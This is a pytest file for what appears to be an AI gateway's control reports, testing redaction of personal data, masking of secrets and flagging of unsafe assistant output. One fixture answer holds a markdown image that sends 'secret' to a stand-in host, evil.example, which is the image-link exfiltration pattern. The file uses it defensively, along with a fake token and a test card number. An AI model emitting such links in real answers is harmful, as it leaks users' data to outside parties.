"""Reports with excerpts and replays, on what a real gateway kept."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.interfaces.conftest import Run
from tests.interfaces.kept import talk

TOKEN = "ghp_" + "x7Kq2Vb9Lm4Tz8Rw1Yc5Nd3Hf6Js0PgAeUiOq"[:36]
PICTURE = "Look: ![x](https://evil.example/a.png?q=secret) there."
SAID = [
    ("Hello, how are you?", "Fine."),
    ("I am bob@example.com, card 4111 1111 1111 1111, call me", "Noted."),
    ("Write to ann@example.com please", PICTURE),
    (f"My token is {TOKEN} as you know", "Thanks."),
]
FULL: dict[str, Any] = {"retention": {"content": "full"}}
ASKED: dict[str, Any] = {"controls": {"PSF-3.1": {}, "PSF-7.3": {"mode": "observe"}, "PSF-2.4": {"mode": "observe"}}}


def controls(found: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {control["criterion"]: control for control in found["controls"]}


def rows(control: dict[str, Any]) -> dict[str, tuple[int, int, bool]]:
    return {row["setting"]: (row["blocked"], row["redacted"], row["in_force"]) for row in control["rows"]}


@pytest.mark.parametrize("stream", [False, True])
def test_every_setting_is_tried_on_what_was_kept(home: Path, run: Run, stream: bool) -> None:
    talk(home, SAID, stream, **FULL, **ASKED)
    ran = run("controls", "replay", "assistant", "--json")
    assert ran.code == 0, ran.err
    found = ran.json
    assert (found["exchanges"], found["read"], found["answers"], found["redacted"]) == (4, 4, 4, 0)
    tried = controls(found)
    assert rows(tried["PSF-3.1"]) == {
        "method: mask": (0, 2, True),
        "method: block": (2, 0, False),
        "raw: email": (0, 1, False),
        "raw: payment_card": (0, 2, False),
    }
    assert tried["PSF-3.1"]["kinds"] == {"email": 2, "payment_card": 1}
    assert rows(tried["PSF-7.3"]) == {"mask, both ways": (0, 1, True), "block, both ways": (1, 0, False)}
    assert rows(tried["PSF-2.4"]) == {"on_unsafe: remove": (0, 1, True), "on_unsafe: block": (1, 0, False)}
    assert tried["PSF-2.4"]["standing"] == "not enforced"


def test_a_replay_is_bounded_and_reads_well(home: Path, run: Run) -> None:
    talk(home, SAID, **FULL, **ASKED)
    lines = run("controls", "replay", "assistant", "--most", "2").out.splitlines()
    assert lines[0] == "default/assistant  2 of 2 exchanges replayed"
    assert "PSF-3.1 redaction before the vendor (enforced), on 2 exchanges" in lines
    assert any(line.split() == ["*", "method:", "mask", "0", "0", "1", "50.0", "%"] for line in lines)
    assert "  found: email in 1" in lines


def test_a_redacted_record_says_what_it_hides(home: Path, run: Run) -> None:
    talk(home, SAID, **FULL, controls={"PSF-1.3": {}, "PSF-7.3": {"settings": {"in_request": "block"}}})
    ran = run("controls", "replay", "assistant")
    assert "  3 were masked before they were kept (PSF-1.3): more personal data and secrets came in." in ran.out
    assert "  1 without content, of which controls had stopped 1." in ran.out


def test_without_content_there_is_nothing_to_replay_and_the_way_is_told(home: Path, run: Run) -> None:
    talk(home, SAID, **ASKED)
    (home / "master.key").unlink()
    ran = run("controls", "replay", "assistant")
    assert ran.code == 0, ran.err
    assert ran.out.startswith("default/assistant  0 of 4 exchanges replayed\n")
    assert "retention: {content: full}" in ran.out
    assert not (home / "master.key").exists()


def test_kept_content_without_its_key_is_refused(home: Path, run: Run) -> None:
    talk(home, SAID, **FULL, **ASKED)
    (home / "master.key").unlink()
    for verb in ("replay", "report"):
        ran = run("controls", verb, "assistant")
        assert (ran.code, ran.out) == (1, "")
        assert "there is no master key" in ran.err
    assert not (home / "master.key").exists()


def test_examples_show_masked_excerpts(home: Path, run: Run) -> None:
    talk(home, SAID, **FULL, **ASKED)
    found = controls(run("controls", "report", "assistant", "--json").json)
    personal = [example["excerpt"] for example in found["PSF-3.1"]["examples"]]
    assert personal == ["Write to [email] please", "I am [email], card [payment_card], call me"]
    (secret,) = (example["excerpt"] for example in found["PSF-7.3"]["examples"])
    assert secret == "My token is [github_token] as you know"
    (unsafe,) = (example["excerpt"] for example in found["PSF-2.4"]["examples"])
    assert "![x](https://evil.example/a.png" in unsafe
    text = run("controls", "report", "assistant").out
    assert "       Write to [email] please" in text.splitlines()
    for planted in ("bob@", "ann@", "4111", TOKEN[5:]):
        assert planted not in text


def test_without_content_examples_have_no_excerpt(home: Path, run: Run) -> None:
    talk(home, SAID, **ASKED)
    found = controls(run("controls", "report", "assistant", "--json").json)
    assert {example["excerpt"] for example in found["PSF-3.1"]["examples"]} == {""}


def test_marks_turn_a_bound_into_an_estimate(home: Path, run: Run) -> None:
    exchanges = talk(home, SAID, controls={"PSF-7.3": {"settings": {"in_request": "block"}}})
    bound = controls(run("controls", "report", "assistant", "--json").json)["PSF-7.3"]["estimate"]
    assert (bound["at_most"], bound["wrongly"]) == (0.25, None)
    assert "at most 25.0 % of exchanges stopped wrongly" in run("controls", "report", "assistant").out
    ran = run("controls", "mark", exchanges[3], "--benign", "--by", "Grace")
    assert ran.out == f"{exchanges[3]} of default/assistant is marked as benign\n"
    found = controls(run("controls", "report", "assistant", "--json").json)["PSF-7.3"]["estimate"]
    assert (found["wrongly"], found["marks"]["stopped_benign"]) == (0.25, 1)
    assert "about 25.0 % of exchanges stopped wrongly" in run("controls", "report", "assistant").out
    assert run("controls", "mark", exchanges[3], "--attack", "--json").json["marked"]["attack"] is True
    found = controls(run("controls", "report", "assistant", "--json").json)["PSF-7.3"]["estimate"]
    assert found["wrongly"] == 0.0
    changes = run("show", "assistant").out
    assert "Marked  Grace" in changes


def test_a_mark_needs_one_word_and_an_exchange(home: Path, run: Run) -> None:
    (exchange,) = talk(home, SAID[:1])
    for words in ((), ("--benign", "--attack")):
        assert run("controls", "mark", exchange, *words).code == 2
    ran = run("controls", "mark", "0" * 32, "--benign")
    assert (ran.code, ran.out) == (1, "")
    assert "no such exchange" in ran.err
